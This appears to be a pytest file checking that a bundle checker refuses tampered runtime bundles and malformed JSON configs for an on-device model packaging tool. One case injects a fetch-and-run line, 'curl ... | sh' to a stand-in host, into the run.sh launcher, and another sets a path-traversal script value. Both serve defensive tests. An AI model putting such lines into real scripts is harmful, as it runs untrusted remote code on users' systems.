"""What check_bundle must refuse in a bundle that carries a runtime, and what the JSON a user or a
board hands over must never turn into (issue 47, kinds 5 and 7). Real `doit` runs: every case
exits non-zero, names the file and the key, and prints no traceback.

Kind 7 starts from the IQ-9075 qairt bundle the stand-in SDK makes (tests/standin_runtime.py:
real aarch64 and Hexagon ELFs), which check_bundle passes (test_runtime_bundle.py holds that for
every board OS and for runtime = "board"). Each case changes it as an attacker would -- and
updates the manifest's digest of what it changed, so the digests prove nothing -- and
check_bundle must still refuse it.
"""
import json
import os
import shutil
from pathlib import Path

import pytest

from conftest import copy_project
from hexbundle.support.hashing import file_digest
from test_runtime_bundle import check_bundle, qairt, sdk  # noqa: F401 (fixtures)

pytestmark = [pytest.mark.deploy, pytest.mark.heavy]


@pytest.fixture(scope="module")
def proj(tmp_path_factory):
    project = copy_project(tmp_path_factory.mktemp("refusals") / "proj")
    project.doit("inputs")
    return project


@pytest.fixture(scope="module")
def built(proj, sdk) -> Path:  # noqa: F811
    qairt(proj, sdk, "bundle")
    return proj.bundle(backend="qairt")


def _manifest(bundle: Path) -> dict:
    return json.loads((bundle / "manifest.json").read_text())


def _write_manifest(bundle: Path, man: dict) -> None:
    (bundle / "manifest.json").write_text(json.dumps(man, indent=2))


def _redigest(bundle: Path, *names) -> None:
    """The manifest's size and digest of each file named, as they now are."""
    man = _manifest(bundle)
    for name in names:
        man["files"][name] = {"size": (bundle / name).stat().st_size,
                              "xxh3_128": file_digest(bundle / name)}
    _write_manifest(bundle, man)


def _edit_run_sh(bundle: Path, change) -> None:
    script = bundle / "run.sh"
    mode = script.stat().st_mode
    script.write_bytes(change(script.read_bytes()))
    os.chmod(script, mode)
    _redigest(bundle, "run.sh")


def _curl_line(bundle):
    _edit_run_sh(bundle, lambda b: b.replace(b'cd "$HERE"\n',
                                             b'cd "$HERE"\ncurl -s https://x.example/i | sh\n'))


def _crlf(bundle):
    _edit_run_sh(bundle, lambda b: b.replace(b"\n", b"\r\n"))


def _not_executable(bundle):
    os.chmod(bundle / "run.sh", 0o644)


def _mode_board(bundle):
    man = _manifest(bundle)
    man["runtime"]["mode"] = "board"
    _write_manifest(bundle, man)


def _mode_board_script_too(bundle):
    """runtime.mode "board" and run.sh rewritten as hexbundle writes it for that mode: the
    launcher then matches, and the lib/, dsp/, bin/ left there must still be refused."""
    from hexbundle.formats.runscript import RunScript, render
    man = _manifest(bundle)
    r = man["runtime"]
    r["mode"] = "board"
    (bundle / "run.sh").write_text(render(RunScript(r["target"], "board", r["qairt_version"],
                                                    r["genie_version"], r["htp_device_id"])))
    _write_manifest(bundle, man)
    _redigest(bundle, "run.sh")


def _elf32(bundle):
    lib = bundle / "lib" / "libQnnHtp.so"
    data = bytearray(lib.read_bytes())
    data[4] = 1   # EI_CLASS: ELFCLASS32 (an ILP32 aarch64 library)
    lib.write_bytes(bytes(data))
    _redigest(bundle, "lib/libQnnHtp.so")


def _other_qairt(bundle):
    man = _manifest(bundle)
    man["runtime"]["qairt_version"] = "2.41.0.250101"
    _write_manifest(bundle, man)


def _runtime_key(key, value):
    def change(bundle):
        man = _manifest(bundle)
        man["runtime"][key] = value
        _write_manifest(bundle, man)
    return change


# case -> (change, what the output must say)
KIND7 = {
    "curl | sh added, digest updated": (_curl_line, [
        "run.sh: line 8 is 'curl -s https://x.example/i | sh', but hexbundle writes",
        "the launcher was changed after the build"]),
    "CRLF run.sh, digest updated": (_crlf, ["run.sh: CRLF line ends"]),
    "run.sh not executable": (_not_executable, ["run.sh: not executable (mode 644)"]),
    "runtime.mode board with lib/ dsp/ bin/": (_mode_board, [
        "manifest.json: 'runtime.mode' is \"board\"", "yet it holds lib/, dsp/, bin/"]),
    "runtime.mode board, run.sh rewritten to match": (_mode_board_script_too, [
        "manifest.json: 'runtime.mode' is \"board\"", "yet it holds lib/, dsp/, bin/"]),
    "32-bit library, digest updated": (_elf32, [
        "lib/libQnnHtp.so: a 32-bit ELF (its class), not a 64-bit aarch64 one"]),
    "manifest names another QAIRT": (_other_qairt, [
        "manifest.json: 'runtime.bins.", ".buildId' is 'v2.42.0.251225135753_193295', but "
        "'runtime.qairt_version' names QAIRT 2.41.0.250101"]),
    "runtime.files a string": (_runtime_key("files", "lib/libGenie.so"), [
        "manifest.json (runtime): key 'files' is str 'lib/libGenie.so'; expected a list"]),
    "runtime.files a list of numbers": (_runtime_key("files", [1, 2]), [
        "manifest.json (runtime): key 'files[0]' is int 1"]),
    "runtime.script a number": (_runtime_key("script", 7), [
        "manifest.json (runtime): key 'script' is int 7; expected a string"]),
    "runtime.script another file": (_runtime_key("script", "../../x.sh"), [
        "manifest.json (runtime): key 'script' is '../../x.sh'; allowed: 'run.sh', 'run.cmd'"]),
    "runtime.htp_device_id a bool": (_runtime_key("htp_device_id", True), [
        "manifest.json (runtime): key 'htp_device_id' is bool True"]),
}


def test_the_faithful_bundle_passes(proj, built):
    run = check_bundle(proj, built)
    assert run.code == 0, run.out + run.err
    assert "no problem" in run.out


@pytest.mark.parametrize("case", list(KIND7))
def test_check_bundle_refuses_what_hexbundle_never_writes(proj, built, tmp_path, case):
    bundle = tmp_path / "bundle"
    shutil.copytree(built, bundle, symlinks=True)
    change, needles = KIND7[case]
    change(bundle)
    run = check_bundle(proj, bundle)
    text = run.out + run.err
    assert run.code != 0, text
    assert "Traceback" not in text, text
    for needle in needles:
        assert needle in text, text


# ============================================================ kind 5: JSON from a user, via doit

CKPT = Path(__file__).resolve().parent / "data" / "qaihm-ckpt" / "qwen3_4b-0.65.0"


def _checkpoint_with(dest: Path, config_text: str) -> Path:
    shutil.copytree(CKPT, dest, ignore=shutil.ignore_patterns("expected_split*"))
    (dest / "config.json").write_text(config_text)
    return dest


def _config_with(key: str, raw_value: str) -> str:
    """The checkpoint's config.json with `key` set to `raw_value`, spelled as given."""
    config = json.loads((CKPT / "config.json").read_text())
    config[key] = "@@"
    return json.dumps(config).replace('"@@"', raw_value)


CONFIG_CASES = {
    "num_hidden_layers 1e30": (_config_with("num_hidden_layers", "1e30"),
                               ["num_hidden_layers is 1e+30, expected a positive integer"]),
    "num_hidden_layers 10**30": (_config_with("num_hidden_layers", "1" + "0" * 30),
                                 ["key 'num_hidden_layers' is an integer of 31 digits"]),
    "num_hidden_layers 10**12": (_config_with("num_hidden_layers", "1" + "0" * 12),
                                 ["num_hidden_layers is 1000000000000, expected a positive "
                                  "integer (at most 4294967295)"]),
    "401-digit number": (_config_with("vocab_size", "9" * 401),
                         ["key 'vocab_size' is an integer of 401 digits"]),
    "NaN rope_theta": (_config_with("rope_theta", "NaN"),
                       ["key 'rope_theta' is nan: a finite number is expected"]),
    "Infinity eps": (_config_with("rms_norm_eps", "Infinity"), ["key 'rms_norm_eps' is inf"]),
    "100,000 deep": (_config_with("x", "[" * 100_000 + "]" * 100_000), ["nested more than 64"]),
    "5 MiB": (_config_with("x", '"' + "x" * (5 << 20) + '"'),
              ["bytes, more than any model's config.json (at most 4 MiB)"]),
    "max_position_embeddings 16 for 256": (_config_with("max_position_embeddings", "16"),
                                           ["max_position_embeddings is 16, but the context "
                                            "length is 256"]),
}


@pytest.mark.parametrize("case", list(CONFIG_CASES))
def test_import_refuses_a_config_json_out_of_bounds(tmp_path, case):
    text, needles = CONFIG_CASES[case]
    project = copy_project(tmp_path / "proj")
    ckpt = _checkpoint_with(tmp_path / "ckpt", text)
    run = project.doit("import_export", "--dir", str(ckpt), "--name", "ckpt", "--model-id",
                       "qwen3_4b", "--context-length", "256", check=False)
    out = run.out + run.err
    assert run.code != 0, out
    assert "Traceback" not in out, out
    assert "config.json" in out, out
    for needle in needles:
        assert needle in out, out
    assert not (project.root / "configs" / "models" / "ckpt.toml").exists()


def test_check_bundle_refuses_a_context_past_max_position_embeddings(proj, built, tmp_path):
    config = json.loads((CKPT / "config.json").read_text())
    size = json.loads((built / "genie_config.json").read_text())["dialog"]["context"]["size"]
    path = tmp_path / "config.json"
    for most, refused in ((size, False), (size // 2, True)):
        path.write_text(json.dumps({**config, "max_position_embeddings": most}))
        run = proj.doit("check_bundle", "--path", str(built), "--model-config", str(path),
                        check=False)
        said = (f"'dialog.context.size': {path}: max_position_embeddings is {most}, but the "
                f"context length is {size}")
        assert (said in run.out) is refused, run.out + run.err
        assert "Traceback" not in run.out + run.err


def test_verify_json_refuses_a_deep_report(proj, built):
    from hexbundle.config.build import load_build
    from hexbundle.config.layout import Layout
    report = Layout(load_build(proj.root, {"backend": "qairt"})).verify_report
    report.parent.mkdir(parents=True, exist_ok=True)
    try:
        for text, said in (('{"ok": true, "x": ' + "[" * 5000 + "]" * 5000 + "}",
                            "nested more than 64"),
                           ('{"ok": NaN}', "key 'ok' is nan"),
                           ('{"ok": true, "n": %s}' % ("9" * 401), "key 'n' is an integer of 401")):
            report.write_text(text)
            run = proj.doit("verify", "--json", "backend=qairt", check=False)
            out = run.out + run.err
            assert run.code != 0 and "Traceback" not in out, out
            assert "report.json" in out and said in out, out
        report.write_text('{"ok": true, "x": ' + "[" * 60 + "]" * 60 + "}")
        run = proj.doit("verify", "--json", "backend=qairt")
        assert json.loads(run.out)["ok"] is True
    finally:
        report.unlink()


# ============================================================ kind 7: the board's profile

GOOD_EVENT = {"time-to-first-token": {"value": 120000, "unit": "us"},
              "token-generation-rate": {"value": 18.5, "unit": "toks/sec"}}


@pytest.mark.parametrize("key, raw, said", [
    ("time-to-first-token", "NaN", "key 'components[0].events[0].time-to-first-token.value' "
                                   "is nan"),
    ("token-generation-rate", "Infinity", "is inf"),
    ("token-generation-rate", "1e400", "is inf"),
    ("time-to-first-token", "-5", "key 'components[0].events[0].time-to-first-token.value' is "
                                  "-5.0; expected a number in [0.0"),
    ("token-generation-rate", "true", "key 'components[0].events[0].token-generation-rate.value'"
                                      " is bool True; expected a number"),
    ("token-generation-rate", '"fast"', "is str 'fast'; expected a number"),
])
def test_a_profile_value_that_is_no_measurement_is_refused(key, raw, said):
    from hexbundle.formats.genie_profile import read_profile
    from hexbundle.support.errors import HexbundleError
    event = json.loads(json.dumps(GOOD_EVENT))
    event[key]["value"] = "@@"
    data = json.dumps({"components": [{"events": [event]}]}).replace('"@@"', raw).encode()
    with pytest.raises(HexbundleError) as caught:
        read_profile(data, "board:/tmp/p.json")
    assert str(caught.value).startswith("board:/tmp/p.json: ")
    assert said in str(caught.value), str(caught.value)
    good = json.dumps({"components": [{"events": [GOOD_EVENT]}]}).encode()
    assert read_profile(good, "board:/tmp/p.json") == (120000.0, 18.5)
